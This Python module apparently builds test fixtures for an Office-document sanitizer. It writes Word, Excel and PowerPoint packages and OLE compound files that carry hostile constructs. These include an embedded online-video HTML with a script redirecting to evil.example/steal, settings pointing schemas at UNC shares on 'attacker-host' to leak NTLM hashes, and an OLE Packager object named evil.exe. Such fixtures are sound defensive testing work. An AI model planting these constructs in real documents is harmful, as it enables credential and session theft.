"""Builders for Office test files: OOXML packages written byte for byte with
zipfile (hostile constructs included: VBA, remote templates, Follina-style
OLE links, DDE fields, XLM macro sheets, DOCTYPE bombs...), and a small OLE
compound file writer for encrypted packages and OLE Packager objects.

Every builder returns bytes; nothing is fetched or run here.
"""
import io
import struct
import zipfile

from mime import marker

W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
P = 'http://schemas.openxmlformats.org/presentationml/2006/main'
A = 'http://schemas.openxmlformats.org/drawingml/2006/main'
RT = R + '/'
MSRT = 'http://schemas.microsoft.com/office/2006/relationships/'
OXD = 'application/vnd.openxmlformats-officedocument.'
DOCX_MAIN = OXD + 'wordprocessingml.document.main+xml'
DOCM_MAIN = 'application/vnd.ms-word.document.macroEnabled.main+xml'
XLSX_MAIN = OXD + 'spreadsheetml.sheet.main+xml'
XLSM_MAIN = 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'
PPTX_MAIN = OXD + 'presentationml.presentation.main+xml'
PPTM_MAIN = 'application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml'
VBA_TYPE = 'application/vnd.ms-office.vbaProject'
DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'

JA = '令和7年度予算①髙﨑'   # CP932 extension characters that must survive


def b(s):
    return s if isinstance(s, bytes) else s.encode('utf-8')


def package(parts):
    """A zip of PARTS (list of (name, str|bytes)), in that order, deflated."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:
        for name, data in parts:
            info = zipfile.ZipInfo(name, date_time=(2025, 11, 1, 9, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, b(data))
    return buf.getvalue()


def content_types(overrides, defaults=()):
    out = [DECL, '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">',
           '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>',
           '<Default Extension="xml" ContentType="application/xml"/>']
    out += ['<Default Extension="%s" ContentType="%s"/>' % d for d in defaults]
    out += ['<Override PartName="/%s" ContentType="%s"/>' % o for o in overrides]
    return ''.join(out) + '</Types>'


def rels(items):
    """items: (id, type, target) or (id, type, target, 'External')."""
    out = [DECL, '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">']
    for it in items:
        mode = ' TargetMode="%s"' % it[3] if len(it) > 3 else ''
        out.append('<Relationship Id="%s" Type="%s" Target="%s"%s/>' % (it[0], it[1], it[2], mode))
    return ''.join(out) + '</Relationships>'


def para(text):
    return '<w:p><w:r><w:t xml:space="preserve">%s</w:t></w:r></w:p>' % text


def docx(body, doc_rels=(), parts=(), main=DOCX_MAIN, overrides=(), defaults=(),
         settings=None, settings_rels=(), doctype='', root_rels=()):
    """A Word package: BODY is the XML inside <w:body>."""
    ov = [('word/document.xml', main)] + list(overrides)
    ps = []
    drels = list(doc_rels)
    if settings is not None:
        ov.append(('word/settings.xml', OXD + 'wordprocessingml.settings+xml'))
        drels.append(('rIdSettings', RT + 'settings', 'settings.xml'))
        ps.append(('word/settings.xml', DECL + '<w:settings xmlns:w="%s" xmlns:r="%s">%s</w:settings>'
                   % (W, R, settings)))
        if settings_rels:
            ps.append(('word/_rels/settings.xml.rels', rels(settings_rels)))
    doc = (DECL + doctype + '<w:document xmlns:w="%s" xmlns:r="%s" '
           'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">'
           '<w:body>%s</w:body></w:document>' % (W, R, body))
    return package([('[Content_Types].xml', content_types(ov, defaults)),
                    ('_rels/.rels', rels([('rId1', RT + 'officeDocument', 'word/document.xml')]
                                         + list(root_rels))),
                    ('word/document.xml', doc),
                    ('word/_rels/document.xml.rels', rels(drels))] + ps + list(parts))


def cell_inline(ref, text):
    return '<c r="%s" t="inlineStr"><is><t>%s</t></is></c>' % (ref, text)


def xlsx(sheets, main=XLSX_MAIN, workbook_extra='', wb_rels=(), parts=(), overrides=(),
         defaults=(), macro_sheets=()):
    """An Excel package. SHEETS: list of (name, sheetData XML); MACRO_SHEETS:
    list of (name, sheetData XML) written as Excel 4.0 macro sheets."""
    ov = [('xl/workbook.xml', main)] + list(overrides)
    ps, sheet_el, wrels = [], [], list(wb_rels)
    for i, (name, data) in enumerate(sheets, 1):
        ov.append(('xl/worksheets/sheet%d.xml' % i, OXD + 'spreadsheetml.worksheet+xml'))
        ps.append(('xl/worksheets/sheet%d.xml' % i, DECL + '<worksheet xmlns="%s" xmlns:r="%s">'
                   '<sheetData>%s</sheetData></worksheet>' % (S, R, data)))
        wrels.append(('rIdS%d' % i, RT + 'worksheet', 'worksheets/sheet%d.xml' % i))
        sheet_el.append('<sheet name="%s" sheetId="%d" r:id="rIdS%d"/>' % (name, i, i))
    for i, (name, data) in enumerate(macro_sheets, 1):
        ov.append(('xl/macrosheets/sheet%d.xml' % i, 'application/vnd.ms-excel.intlmacrosheet+xml'))
        ps.append(('xl/macrosheets/sheet%d.xml' % i, DECL + '<xm:macrosheet xmlns="%s" '
                   'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
                   '<sheetData>%s</sheetData></xm:macrosheet>' % (S, data)))
        wrels.append(('rIdM%d' % i, MSRT + 'xlIntlMacrosheet', 'macrosheets/sheet%d.xml' % i))
        sheet_el.append('<sheet name="%s" sheetId="%d" state="hidden" r:id="rIdM%d"/>'
                        % (name, 100 + i, i))
    wb = (DECL + '<workbook xmlns="%s" xmlns:r="%s"><bookViews><workbookView activeTab="%d"/>'
          '</bookViews><sheets>%s</sheets>%s</workbook>'
          % (S, R, len(sheet_el) - 1, ''.join(sheet_el), workbook_extra))
    return package([('[Content_Types].xml', content_types(ov, defaults)),
                    ('_rels/.rels', rels([('rId1', RT + 'officeDocument', 'xl/workbook.xml')])),
                    ('xl/workbook.xml', wb),
                    ('xl/_rels/workbook.xml.rels', rels(wrels))] + ps + list(parts))


THEME = ('<a:theme xmlns:a="%s" name="t"><a:themeElements><a:clrScheme name="c">'
         + ''.join('<a:%s><a:srgbClr val="%s"/></a:%s>' % (n, v, n) for n, v in [
             ('dk1', '000000'), ('lt1', 'FFFFFF'), ('dk2', '1F497D'), ('lt2', 'EEECE1'),
             ('accent1', '4F81BD'), ('accent2', 'C0504D'), ('accent3', '9BBB59'),
             ('accent4', '8064A2'), ('accent5', '4BACC6'), ('accent6', 'F79646'),
             ('hlink', '0000FF'), ('folHlink', '800080')])
         + '</a:clrScheme><a:fontScheme name="f"><a:majorFont><a:latin typeface="Arial"/>'
         '<a:ea typeface=""/><a:cs typeface=""/></a:majorFont><a:minorFont>'
         '<a:latin typeface="Arial"/><a:ea typeface=""/><a:cs typeface=""/></a:minorFont>'
         '</a:fontScheme><a:fmtScheme name="s"><a:fillStyleLst>'
         + '<a:solidFill><a:schemeClr val="phClr"/></a:solidFill>' * 3
         + '</a:fillStyleLst><a:lnStyleLst>' + '<a:ln w="9525"><a:solidFill><a:schemeClr val="phClr"/>'
         '</a:solidFill></a:ln>' * 3 + '</a:lnStyleLst><a:effectStyleLst>'
         + '<a:effectStyle><a:effectLst/></a:effectStyle>' * 3
         + '</a:effectStyleLst><a:bgFillStyleLst>'
         + '<a:solidFill><a:schemeClr val="phClr"/></a:solidFill>' * 3
         + '</a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>') % A

_SP_TREE = ('<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr>'
            '<p:grpSpPr/>')


def slide_shape(text, extra_rpr=''):
    return ('<p:sp><p:nvSpPr><p:cNvPr id="2" name="T"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr>'
            '<p:spPr><a:xfrm><a:off x="457200" y="457200"/><a:ext cx="8000000" cy="1000000"/>'
            '</a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr>'
            '<p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang="ja-JP">%s</a:rPr>'
            '<a:t>%s</a:t></a:r></a:p></p:txBody></p:sp>' % (extra_rpr, text))


def pptx(slide_xml, main=PPTX_MAIN, pres_rels=(), slide_rels=(), parts=(), overrides=(),
         defaults=()):
    """A PowerPoint package with one slide whose spTree holds SLIDE_XML."""
    ns = 'xmlns:a="%s" xmlns:r="%s" xmlns:p="%s"' % (A, R, P)
    ov = [('ppt/presentation.xml', main),
          ('ppt/slides/slide1.xml', OXD + 'presentationml.slide+xml'),
          ('ppt/slideLayouts/slideLayout1.xml', OXD + 'presentationml.slideLayout+xml'),
          ('ppt/slideMasters/slideMaster1.xml', OXD + 'presentationml.slideMaster+xml'),
          ('ppt/theme/theme1.xml', OXD + 'theme+xml')] + list(overrides)
    pres = (DECL + '<p:presentation %s><p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="rId1"/>'
            '</p:sldMasterIdLst><p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst>'
            '<p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/>'
            '</p:presentation>' % ns)
    master = (DECL + '<p:sldMaster %s><p:cSld><p:spTree>%s</p:spTree></p:cSld>'
              '<p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2" '
              'accent3="accent3" accent4="accent4" accent5="accent5" accent6="accent6" '
              'hlink="hlink" folHlink="folHlink"/><p:sldLayoutIdLst>'
              '<p:sldLayoutId id="2147483649" r:id="rId1"/></p:sldLayoutIdLst></p:sldMaster>'
              % (ns, _SP_TREE))
    layout = (DECL + '<p:sldLayout %s><p:cSld><p:spTree>%s</p:spTree></p:cSld>'
              '<p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sldLayout>' % (ns, _SP_TREE))
    slide = (DECL + '<p:sld %s><p:cSld><p:spTree>%s%s</p:spTree></p:cSld>'
             '<p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sld>' % (ns, _SP_TREE, slide_xml))
    return package([
        ('[Content_Types].xml', content_types(ov, defaults)),
        ('_rels/.rels', rels([('rId1', RT + 'officeDocument', 'ppt/presentation.xml')])),
        ('ppt/presentation.xml', pres),
        ('ppt/_rels/presentation.xml.rels', rels([
            ('rId1', RT + 'slideMaster', 'slideMasters/slideMaster1.xml'),
            ('rId2', RT + 'slide', 'slides/slide1.xml'),
            ('rId3', RT + 'theme', 'theme/theme1.xml')] + list(pres_rels))),
        ('ppt/slides/slide1.xml', slide),
        ('ppt/slides/_rels/slide1.xml.rels', rels([
            ('rId1', RT + 'slideLayout', '../slideLayouts/slideLayout1.xml')] + list(slide_rels))),
        ('ppt/slideLayouts/slideLayout1.xml', layout),
        ('ppt/slideLayouts/_rels/slideLayout1.xml.rels', rels([
            ('rId1', RT + 'slideMaster', '../slideMasters/slideMaster1.xml')])),
        ('ppt/slideMasters/slideMaster1.xml', master),
        ('ppt/slideMasters/_rels/slideMaster1.xml.rels', rels([
            ('rId1', RT + 'slideLayout', '../slideLayouts/slideLayout1.xml'),
            ('rId2', RT + 'theme', '../theme/theme1.xml')])),
        ('ppt/theme/theme1.xml', DECL + THEME),
    ] + list(parts))


def vba_project(name):
    """Stand-in for vbaProject.bin: an OLE header and the case's marker."""
    return b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + b'\x00' * 24 + marker(name)


# --- OLE compound files ---------------------------------------------------

def compound_file(streams):
    """A version-3 compound file (512-byte sectors) holding STREAMS, a list
    of (name, bytes) in the root storage. Streams are padded to 4096 bytes
    so that none lives in the mini stream."""
    ss = 512
    data_sectors, starts, sizes = [], [], []
    for _, data in streams:
        data = data.ljust(max(4096, len(data)), b'\x00')
        n = (len(data) + ss - 1) // ss
        starts.append(len(data_sectors))
        sizes.append(len(data))
        data_sectors += [data[i * ss:(i + 1) * ss].ljust(ss, b'\x00') for i in range(n)]
    n_dir = (len(streams) + 1 + 3) // 4
    n_data = len(data_sectors)
    total = n_data + n_dir + 1          # data, directory, one FAT sector (enough for 127)
    assert total <= 128
    fat_sid = n_data + n_dir
    fat = []
    for i, (start, size) in enumerate(zip(starts, sizes)):
        n = (size + ss - 1) // ss
        fat += [start + k + 1 for k in range(n - 1)] + [0xFFFFFFFE]
    fat += [n_data + k + 1 for k in range(n_dir - 1)] + [0xFFFFFFFE]
    fat += [0xFFFFFFFD]
    fat += [0xFFFFFFFF] * (128 - len(fat))

    def entry(name, kind, child, left, right, start, size):
        raw = name.encode('utf-16le') + b'\x00\x00'
        e = raw.ljust(64, b'\x00') + struct.pack('<HBB', len(raw), kind, 1)
        e += struct.pack('<III', left, right, child) + b'\x00' * 16 + b'\x00' * 4 + b'\x00' * 16
        e += struct.pack('<IIH', start, size, 0) + b'\x00' * 2
        return e.ljust(128, b'\x00')
    NONE = 0xFFFFFFFF
    # root's child is the first stream; the others hang off as right siblings
    dirs = [entry('Root Entry', 5, 1 if streams else NONE, NONE, NONE, 0xFFFFFFFE, 0)]
    for i, (name, _) in enumerate(streams):
        right = i + 2 if i + 1 < len(streams) else NONE
        dirs.append(entry(name, 2, NONE, NONE, right, starts[i], sizes[i]))
    dirs += [b'\x00' * 64 + struct.pack('<HBB', 0, 0, 0) +
             struct.pack('<III', NONE, NONE, NONE) + b'\x00' * 52] * (n_dir * 4 - len(dirs))
    dir_bytes = b''.join(d.ljust(128, b'\x00') for d in dirs)
    header = (b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + b'\x00' * 16 +
              struct.pack('<HHHHH', 0x3E, 3, 0xFFFE, 9, 6) + b'\x00' * 6 +
              struct.pack('<IIIIIIII', 0, 1, n_data, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE) +
              struct.pack('<I', 0))
    header = header[:0x4C] if len(header) >= 0x4C else header.ljust(0x4C, b'\x00')
    difat = [fat_sid] + [0xFFFFFFFF] * 108
    header += struct.pack('<109I', *difat)
    assert len(header) == 512
    body = b''.join(data_sectors) + dir_bytes + struct.pack('<128I', *fat)
    return header + body


def encrypted_ooxml(name):
    """What Office writes for a password-protected .docx (agile encryption):
    a compound file with EncryptionInfo and EncryptedPackage streams."""
    info = struct.pack('<HHI', 4, 4, 0x40) + b'<?xml version="1.0"?><encryption/>'
    return compound_file([('EncryptionInfo', info), ('EncryptedPackage', marker(name) * 4)])


def ole_packager(name):
    """An OLE object of the Packager (what carries .exe/.lnk/.js into Word)."""
    payload = b'MZ' + marker(name)
    native = (struct.pack('<I', 0) + b'\x02\x00evil.exe\x00C:\\evil.exe\x00\x00\x00\x03\x00' +
              b'C:\\evil.exe\x00' + struct.pack('<I', len(payload)) + payload)
    native = struct.pack('<I', len(native)) + native
    return compound_file([('\x01Ole10Native', native), ('\x01CompObj', b'\x01\x00\xfe\xff')])


# --- content beyond the element allow-list (issue: online video, schema paths) --

WP = 'http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing'
PIC = 'http://schemas.openxmlformats.org/drawingml/2006/picture'
WP15 = 'http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing'
W14 = 'http://schemas.microsoft.com/office/word/2010/wordml'
MC = 'http://schemas.openxmlformats.org/markup-compatibility/2006'
SL = 'http://schemas.openxmlformats.org/schemaLibrary/2006/main'

WEB_VIDEO_HTML = ('<iframe src="https://video.evil.example/embed/1" width="480" height="270">'
                  '</iframe><script>document.location="https://evil.example/steal"</script>')


def web_video_drawing(image_rel, html=WEB_VIDEO_HTML):
    """What Word writes for Insert > Online Video: a picture (the poster frame)
    whose cNvPr carries wp15:webVideoPr with the player's HTML, a click link
    and an a:videoFile link to the page."""
    from xml.sax.saxutils import quoteattr
    return ('<w:p><w:r><w:drawing><wp:inline xmlns:wp="%s">'
            '<wp:extent cx="914400" cy="685800"/><wp:docPr id="1" name="Video"/>'
            '<a:graphic xmlns:a="%s"><a:graphicData uri="%s"><pic:pic xmlns:pic="%s">'
            '<pic:nvPicPr><pic:cNvPr id="1" name="Video" descr="online video">'
            '<a:hlinkClick r:id="rIdVideo"/><a:extLst><a:ext uri="{C809E66F-F1BF-436E-b5F7-EEA9579F0CBA}">'
            '<wp15:webVideoPr xmlns:wp15="%s" embeddedHtml=%s h="270" w="480"/></a:ext></a:extLst>'
            '</pic:cNvPr><pic:cNvPicPr/><pic:nvPr><a:videoFile r:link="rIdVideo"/></pic:nvPr></pic:nvPicPr>'
            '<pic:blipFill><a:blip r:embed="%s"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
            '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="685800"/></a:xfrm>'
            '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData>'
            '</a:graphic></wp:inline></w:drawing></w:r></w:p>'
            % (WP, A, PIC, PIC, WP15, quoteattr(html), image_rel))


def docx_web_video(text, png):
    """A document with an online video whose HTML runs a script and frames an
    external page; PNG is its poster frame."""
    body = para(text) + web_video_drawing('rIdImg')
    return docx(body, doc_rels=[
        ('rIdImg', RT + 'image', 'media/image1.png'),
        ('rIdVideo', RT + 'hyperlink', 'https://video.evil.example/watch?v=1', 'External')],
        defaults=[('png', 'image/png')], parts=[('word/media/image1.png', png)])


def docx_schema_paths(text):
    """settings.xml naming schemas on a UNC share and a file:// URL:
    w:attachedSchema, sl:manifestLocation, sl:schemaLocation (Word fetches
    them: NTLM hashes leak to the share)."""
    settings = ('<w:attachedSchema w:val="\\\\attacker-host\\schemas\\attached.xsd"/>'
                '<sl:schemaLibrary xmlns:sl="%s"><sl:schema sl:uri="urn:x-evil"'
                ' sl:manifestLocation="file://attacker-host/share/manifest.xml"'
                ' sl:schemaLocation="\\\\attacker-host\\share\\schema.xsd"/></sl:schemaLibrary>'
                % SL)
    return docx(para(text), settings=settings)


def alternate_content(choice_requires, choice_xml, fallback_xml):
    """mc:AlternateContent as Word writes it around w14/wps content."""
    return ('<mc:AlternateContent xmlns:mc="%s" xmlns:w14="%s"'
            ' xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape">'
            '<mc:Choice Requires="%s">%s</mc:Choice><mc:Fallback>%s</mc:Fallback>'
            '</mc:AlternateContent>' % (MC, W14, choice_requires, choice_xml, fallback_xml))
